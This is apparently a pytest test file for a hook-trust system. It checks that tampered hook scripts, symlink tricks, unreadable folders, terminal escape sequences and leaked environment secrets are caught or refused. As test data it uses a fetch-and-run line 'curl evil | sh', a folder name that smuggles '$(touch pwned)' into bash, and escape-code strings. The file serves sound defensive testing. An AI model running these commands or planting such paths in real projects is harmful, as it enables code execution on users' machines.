"""What a reviewer who meant harm found: each attack, and that it fails now (D-21)."""

from __future__ import annotations

import errno
import os
import shlex
import subprocess
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from llxprt_hooks import Config
from llxprt_hooks._support.text import escape_for_terminal
from llxprt_hooks.settings import Level, Problem, exclusive_lock, settings_file
from llxprt_hooks.settings.environment import EnvironmentRule, HookEnvironment
from llxprt_hooks.settings.extensions import place_path
from llxprt_hooks.settings.load import load_settings
from llxprt_hooks.settings.trust import covered_files
from llxprt_hooks.settings.trust.covered_files import named_files
from llxprt_hooks.settings.trust.status import TrustError, TrustState, grant_trust, revoke_trust, trust_status

if TYPE_CHECKING:
    from tests.settings.conftest import Write


def running(command: str) -> dict[str, Any]:
    hook = {"type": "command", "command": command}
    return {"enableHooks": True, "hooks": {"BeforeTool": [{"hooks": [hook]}]}}


NAMED_BY_DETOUR = [
    # The folder is named apart from the file.
    ("cd hooks && ./check.sh", "hooks/check.sh"),
    ("cd $LLXPRT_PROJECT_DIR/hooks && ./check.sh", "hooks/check.sh"),
    ("(cd hooks; cd inner; bash check.sh)", "hooks/inner/check.sh"),
    ("env -C hooks bash check.sh", "hooks/check.sh"),
    ('H=$LLXPRT_PROJECT_DIR/hooks; "$H"/check.sh', "hooks/check.sh"),
    ("PATH=$LLXPRT_PROJECT_DIR/hooks:$PATH check.sh", "hooks/check.sh"),
    ("$(dirname hooks/x)/check.sh", "hooks/check.sh"),
    ("bash \"$(printf 'hooks/%s' check.sh)\"", "hooks/check.sh"),
    ("hooks/{check,other}.sh", "hooks/check.sh"),
    # The project is named by another of its names.
    ("~/project/hooks/check.sh", "hooks/check.sh"),
    ('"${HOME}/project/hooks/check.sh"', "hooks/check.sh"),
    ("~+/hooks/check.sh", "hooks/check.sh"),
    ("bash /proc/self/cwd/hooks/check.sh", "hooks/check.sh"),
    ("${SCRIPT:-hooks/check.sh}", "hooks/check.sh"),
    # Quotes within quotes, and quotes that do not quote.
    (r"bash -c 'hooks/my\ check.sh'", "hooks/my check.sh"),
    ("bash -c \"'hooks/my check.sh'\"", "hooks/my check.sh"),
    ("# don't worry\n'hooks/my check.sh'", "hooks/my check.sh"),
    ("cat <<E\ndon't\nE\n'hooks/my check.sh'", "hooks/my check.sh"),
    ('"$(pwd)/my hooks/check.sh"', "my hooks/check.sh"),
    ("hooks/\\\ncheck.sh", "hooks/check.sh"),
    ('"hooks/ch\\\neck.sh"', "hooks/check.sh"),
    (r'"hooks/a\$b.sh"', "hooks/a$b.sh"),
    ("hooks/check$NOTHING.sh", "hooks/check.sh"),
    # White space to Python, but not to a shell.
    ("hooks/a\u3000b.sh", "hooks/a\u3000b.sh"),
    ("hooks/a\x1cb.sh", "hooks/a\x1cb.sh"),
    ("hooks/check.sh\r", "hooks/check.sh\r"),
    # The program adds to the name.
    ("node hooks/check", "hooks/check.js"),
    ("node -e 'require(\"./hooks/check\")'", "hooks/check.js"),
    ("python3 -m hooks.check", "hooks/check.py"),
    ("awk -fhooks/check.awk", "hooks/check.awk"),
    # Another spelling of the name, where the file system takes it for the same.
    ("cd . && Hooks/CHE\u0301CK.sh", "hooks/ch\u00e9ck.sh"),
    # A program that starts others.
    ("strace -f sh hooks/check.sh", "hooks/check.sh"),
    ("""awk 'BEGIN{system("hooks/check")}'""", "hooks/check"),
    ("flock lock hooks/check", "hooks/check"),
    ("ssh-agent hooks/check", "hooks/check"),
    # Written to, and then run.
    ("cat > hooks/check.sh; bash hooks/check.sh", "hooks/check.sh"),
    ("bash 0<>hooks/check.sh", "hooks/check.sh"),
]


class TestScripts:
    @pytest.mark.parametrize(("command", "script"), NAMED_BY_DETOUR)
    def test_a_script_is_found_however_the_command_names_it(
        self, project: Path, project_file: Path, write: Write, command: str, script: str
    ) -> None:
        write(project_file, running(command))
        write(project / script, "exit 0\n")
        assert script in grant_trust(project).scripts

        write(project / script, "curl evil | sh\n")

        assert trust_status(project).state is TrustState.CHANGED
        assert load_settings(project).sources == ()

    @pytest.mark.slow
    @given(st.text(st.characters(exclude_characters="/\0", exclude_categories=["Cs"]), min_size=1, max_size=40))
    @example("a>b.sh")
    @example('it\'s "a\\b".sh')
    @example("=\u0338>\u0338")
    @settings(max_examples=200, deadline=None)
    def test_no_name_hides_a_script(self, name: str) -> None:
        with tempfile.TemporaryDirectory() as folder:
            hooks = Path(folder) / "hooks"
            hooks.mkdir()
            try:
                (hooks / name).write_text("exit 0")
            except OSError:  # no name for a file, such as `..`
                return

            for command in (shlex.quote(f"hooks/{name}"), f"cd hooks && bash -e {shlex.quote(f'./{name}')} x"):
                assert f"hooks/{name}" in named_files([command], Path(folder))

    def test_behind_a_link_two_dots_lead_where_the_kernel_goes(
        self, project: Path, project_file: Path, write: Write
    ) -> None:
        write(project / "there" / "inner" / "x", "")
        write(project / "sub" / "check.sh", "exit 0\n")
        (project / "sub" / "link").symlink_to(project / "there" / "inner")
        write(project_file, running("sub/link/../check.sh"))
        write(project / "there" / "check.sh", "exit 0\n")
        grant_trust(project)

        write(project / "there" / "check.sh", "curl evil | sh\n")

        assert trust_status(project).state is TrustState.CHANGED

    def test_a_link_to_a_folder_counts_with_where_it_leads(
        self, project: Path, project_file: Path, write: Write
    ) -> None:
        write(project / "a" / "check.sh", "exit 0\n")
        write(project / "b" / "check.sh", "curl evil | sh\n")
        link = project / "current"
        link.symlink_to("a")
        write(project_file, running("current/check.sh a b"))
        grant_trust(project)

        link.unlink()
        link.symlink_to("b")

        assert trust_status(project).state is TrustState.CHANGED

    def test_a_circle_of_links_is_walked_once(self, project: Path, project_file: Path, write: Write) -> None:
        (project / "loop").symlink_to(".")
        (project / "hooks").mkdir()
        (project / "hooks" / "loop").symlink_to("../hooks")
        write(project / "hooks" / "check.sh", "exit 0\n")
        write(project_file, running("loop/hooks/loop/check.sh"))

        assert trust_status(project).scripts == ("loop", "hooks/loop", "hooks/check.sh")

    def test_a_hook_that_keeps_a_log_stays_approved(self, project: Path, project_file: Path, write: Write) -> None:
        log = project / ".llxprt" / "state" / "audit.log"
        write(project_file, running('cat >> "$LLXPRT_PROJECT_DIR/.llxprt/state/audit.log" 2>/dev/null'))
        grant_trust(project)

        write(log, "one\n")
        assert trust_status(project).state is TrustState.TRUSTED
        write(log, "two\n")
        assert trust_status(project).state is TrustState.TRUSTED

    def test_what_git_keeps_for_itself_is_not_named_by_a_git_command(
        self, project: Path, project_file: Path, write: Write
    ) -> None:
        write(project / ".git" / "HEAD", "ref: main\n")
        write(project_file, running("git diff HEAD"))

        assert trust_status(project).scripts == ()

    @pytest.mark.slow
    def test_a_script_of_any_size_delays_nothing(self, project: Path, project_file: Path, write: Write) -> None:
        with (project / "huge").open("wb") as huge:
            huge.truncate(2**40)
        write(project_file, running("./huge"))

        loaded = load_settings(project)

        assert loaded.trust.state is TrustState.REFUSED
        assert "the scripts are larger than 256 MiB in total" in loaded.problems[0].message
        with pytest.raises(TrustError, match="larger than 256 MiB"):
            grant_trust(project)

    def test_any_number_of_files_delays_nothing(
        self, project: Path, project_file: Path, write: Write, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(covered_files, "MAX_FILES", 10)
        for number in range(12):
            write(project / f"{number}" / "a", "")
        write(project_file, running("cd . && cat " + " ".join(f"{number}/a" for number in range(12))))

        assert trust_status(project).state is TrustState.REFUSED

    @pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
    def test_a_folder_that_cannot_be_looked_into_cannot_be_approved(
        self, project: Path, project_file: Path, write: Write
    ) -> None:
        write(project / "hooks" / "check.sh", "exit 0\n")
        write(project_file, running("hooks/check.sh"))
        (project / "hooks").chmod(0o300)

        try:
            status = trust_status(project)
        finally:
            (project / "hooks").chmod(0o700)

        assert status.state is TrustState.REFUSED
        assert "cannot be read: Permission denied" in status.problems[0].message

    @pytest.mark.parametrize(
        ("function", "message"), [("scandir", "cannot be read: Input/output error"), ("open", "cannot be read")]
    )
    def test_what_the_system_fails_to_read_cannot_be_approved(
        self,
        project: Path,
        project_file: Path,
        write: Write,
        monkeypatch: pytest.MonkeyPatch,
        function: str,
        message: str,
    ) -> None:
        write(project / "hooks" / "check.sh", "exit 0\n")
        write(project_file, running("cd hooks && ./check.sh"))
        real = getattr(os, function)

        def failing(path: str | Path, *arguments: Any) -> Any:
            if str(path).startswith(str(project / "hooks")):
                raise OSError(errno.EIO, os.strerror(errno.EIO), str(path))
            return real(path, *arguments)

        monkeypatch.setattr(os, function, failing)
        status = trust_status(project)

        assert status.state is TrustState.REFUSED
        assert message in status.problems[0].message

    def test_a_link_without_a_target_is_not_a_script(self, project: Path, project_file: Path, write: Write) -> None:
        write(project_file, running("hooks/check.sh"))
        write(project / "hooks" / "other.sh", "")
        (project / "hooks" / "check.sh").symlink_to("nowhere")

        assert trust_status(project).scripts == ()

    def test_a_folder_that_goes_meanwhile_has_no_scripts(
        self, project: Path, project_file: Path, write: Write, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        write(project / "hooks" / "check.sh", "exit 0\n")
        write(project_file, running("cd hooks && ./check.sh"))
        real = os.scandir

        def removing(path: Path) -> Any:
            if path == project / "hooks":
                (path / "check.sh").unlink()
                path.rmdir()
            return real(path)

        monkeypatch.setattr(os, "scandir", removing)

        assert trust_status(project).scripts == ()


class TestPlaces:
    @pytest.mark.parametrize("relative", [".", "sub/.."])
    def test_a_relative_home_does_not_make_the_project_the_user(
        self, project: Path, project_file: Path, write: Write, monkeypatch: pytest.MonkeyPatch, relative: str
    ) -> None:
        write(project_file, running("evil"))
        write(project / "sub" / "x", "")
        monkeypatch.chdir(project)
        monkeypatch.setenv("HOME", relative)

        loaded = load_settings(project)

        assert (loaded.enabled, loaded.sources) == (False, ())
        assert loaded.trust.state is TrustState.UNTRUSTED

    def test_a_relative_system_path_does_not_make_the_project_the_system(
        self, project: Path, project_file: Path, write: Write, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        write(project_file, running("evil"))
        monkeypatch.chdir(project)
        monkeypatch.setenv("LLXPRT_SYSTEM_SETTINGS_PATH", ".llxprt/settings.json")

        assert settings_file(Level.SYSTEM, project) == Path("/etc/llxprt-code/settings.json")
        assert project_file not in [source.file for source in load_settings(project).sources]

    def test_two_dots_after_a_link_are_read_in_one_way(
        self, project: Path, project_file: Path, tmp_path: Path, write: Write, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        write(project_file, running("./check.sh"))
        write(project / "sub" / "x", "")
        grant_trust(project)
        other = tmp_path / "other"
        other.mkdir()
        (other / "link").symlink_to(project / "sub")
        monkeypatch.chdir(other)

        config = Config.load("link/..")

        assert config.settings
        assert config.working_dir == str(config.settings.trust.project) == str(other)
        assert config.settings.sources == ()
        assert not revoke_trust("link/..")
        assert trust_status(project).state is TrustState.TRUSTED

    def test_a_lock_is_not_taken_through_a_link(self, tmp_path: Path) -> None:
        elsewhere = tmp_path / "elsewhere"
        (tmp_path / "settings.json.lock").symlink_to(elsewhere)

        with pytest.raises(OSError, match="symbolic link"), exclusive_lock(tmp_path / "settings.json"):
            pass
        assert not elsewhere.exists()

    def test_a_file_that_would_block_raises_no_error(
        self, project: Path, project_file: Path, write: Write, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        # As root, a link to /proc/kmsg; any descriptor that would have to wait shows the same.
        write(project_file, "{}")
        reading, writing = os.pipe()
        regular = os.stat(project_file)
        os.set_blocking(reading, False)
        monkeypatch.setattr("llxprt_hooks.settings.document.os.open", lambda *_args: os.dup(reading))
        monkeypatch.setattr("llxprt_hooks.settings.document.os.fstat", lambda _descriptor: regular)
        try:
            loaded = load_settings(project)
        finally:
            os.close(reading)
            os.close(writing)

        assert loaded.trust.state is TrustState.REFUSED
        assert "the file cannot be read: it is empty at the moment, as some kernel files are" in str(loaded.problems[0])


class TestExtensionPaths:
    @pytest.mark.parametrize(
        "command",
        ["echo x >&${extensionPath}/log", 'echo x 1>& "${extensionPath}/log"', "a=([1${extensionPath}]=1)"],
    )
    def test_what_bash_expands_twice_is_left_out(self, tmp_path: Path, command: str) -> None:
        folder = tmp_path / "a[$(touch pwned)]"
        folder.mkdir()
        quoted = command.replace("${extensionPath}", shlex.quote(str(folder)))
        subprocess.run(["bash", "-c", quoted], cwd=tmp_path, check=False, capture_output=True)
        assert (tmp_path / "pwned").exists(), "quoting alone does not help"

        assert place_path(command, str(folder)) is None
        assert place_path("${extensionPath}/check.sh 2>&1 >&2", str(folder)) is not None


HOSTILE = "\x1b[2J\x1b]0;all is well\x07\r\n\u202e"


class TestShowing:
    def test_nothing_that_a_project_brings_reaches_the_terminal_raw(self, tmp_path: Path, write: Write) -> None:
        project = tmp_path / HOSTILE
        file = write(project / ".llxprt" / "settings.json", {"hooks": {HOSTILE * 1000: 1, HOSTILE: []}})

        loaded = load_settings(project)

        told = [*map(str, loaded.problems), *loaded.notices]
        assert len(told) == 2
        assert all(text.isprintable() and len(text) < 1000 for text in told)

        file.chmod(0o666)
        with pytest.raises(TrustError) as caught:
            grant_trust(project)
        assert str(caught.value).isprintable()

    def test_a_link_is_shown_without_its_escapes(self, project: Path, project_file: Path, write: Write) -> None:
        project_file.parent.mkdir()
        project_file.symlink_to(write(project / HOSTILE, running("x")))

        assert str(trust_status(project).problems[0]).isprintable()

    def test_all_of_a_command_can_be_shown(self) -> None:
        command = f"true{HOSTILE}; curl evil | sh" + " " * 500 + "# é"

        shown = escape_for_terminal(command)

        assert shown.isprintable()
        assert shown.startswith(r"true\x1b[2J")
        assert shown.endswith("; curl evil | sh" + " " * 500 + "# é")


ENVIRON = {"PATH": "/bin", "HOME": "/h", "LC_ALL": "C", "LC_TIME": "C", "AWS_KEY": "k", "GITHUB_TOKEN": "t"}


def environment(value: object) -> dict[str, Any]:
    return {"hooksConfig": {"environment": value}}


class TestEnvironment:
    """Which variables hooks inherit (HOOK-188)."""

    @pytest.mark.parametrize(
        ("value", "inherited"),
        [
            ({}, set(ENVIRON)),
            ({"deny": ["AWS_*", "GITHUB_TOKEN"]}, {"PATH", "HOME", "LC_ALL", "LC_TIME"}),
            ({"allow": ["PATH", "LC_*"]}, {"PATH", "LC_ALL", "LC_TIME"}),
            ({"allow": ["LC_*"], "deny": ["LC_TIME"]}, {"LC_ALL"}),
            ({"allow": ["*"], "deny": ["*"]}, set()),
            ({"allow": []}, set()),
            ({"allow": ["path", "HOM", "AWS"]}, set()),
        ],
    )
    def test_lists_name_variables_or_how_they_begin(
        self, project: Path, user_file: Path, write: Write, value: object, inherited: set[str]
    ) -> None:
        write(user_file, environment(value))

        loaded = load_settings(project)

        assert loaded.environment.restricted(ENVIRON).keys() == inherited
        assert loaded.problems == ()

    def test_a_level_can_only_take_away(
        self, project: Path, project_file: Path, user_file: Path, system_file: Path, write: Write, trusting: None
    ) -> None:
        write(system_file, environment({"deny": ["AWS_*"]}))
        write(user_file, environment({"allow": ["PATH", "HOME", "AWS_KEY"]}))
        write(project_file, environment({"allow": ["*"], "deny": ["HOME"]}))

        loaded = load_settings(project)

        assert loaded.environment == HookEnvironment(
            (
                EnvironmentRule(allow=("*",), deny=("HOME",)),
                EnvironmentRule(allow=("PATH", "HOME", "AWS_KEY")),
                EnvironmentRule(deny=("AWS_*",)),
            )
        )
        assert loaded.environment.restricted(ENVIRON) == {"PATH": "/bin"}

    def test_a_project_that_is_not_approved_takes_nothing_away(
        self, project: Path, project_file: Path, write: Write
    ) -> None:
        write(project_file, environment({"allow": []}))

        assert load_settings(project).environment.restricted(ENVIRON) == ENVIRON

        grant_trust(project)
        assert load_settings(project).environment.restricted(ENVIRON) == {}
        write(project_file, environment({"deny": ["AWS_*"]}))
        assert trust_status(project).state is TrustState.CHANGED

    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ("AWS_*", '`environment` must be an object, found "AWS_*"'),
            (None, "`environment` must be an object, found null"),
            ({"deny": "AWS_*"}, '`deny` must be an array, found "AWS_*"'),
            ({"allow": None}, "`allow` must be an array, found null"),
            ({"denied": []}, "unknown key `denied`"),
            ({"deny": ["*_TOKEN"]}, "`deny`: expected the name of a variable, optionally ending in `*`"),
            ({"deny": ["AWS_KEY=k"]}, "`deny`: expected the name of a variable, optionally ending in `*`"),
            ({"deny": [""]}, "`deny`: expected the name of a variable, optionally ending in `*`"),
            ({"deny": [7]}, "expected a string here, found 7"),
        ],
    )
    def test_a_rule_that_cannot_be_understood_lets_nothing_through(
        self, project: Path, user_file: Path, write: Write, value: object, expected: str
    ) -> None:
        write(user_file, environment(value))

        loaded = load_settings(project)

        assert loaded.environment.restricted(ENVIRON) == {}
        [problem] = loaded.problems
        assert isinstance(problem, Problem)
        assert problem.message == f"{expected}; until this is fixed, hooks inherit no variables"

    def test_it_lets_nothing_through_however_much_else_is_wrong(
        self, project: Path, user_file: Path, write: Write
    ) -> None:
        wrong = {f"event {number}": 1 for number in range(200)}
        write(user_file, {"hooks": wrong, **environment({"deny": ["*_TOKEN"]})})

        assert load_settings(project).environment.restricted(ENVIRON) == {}
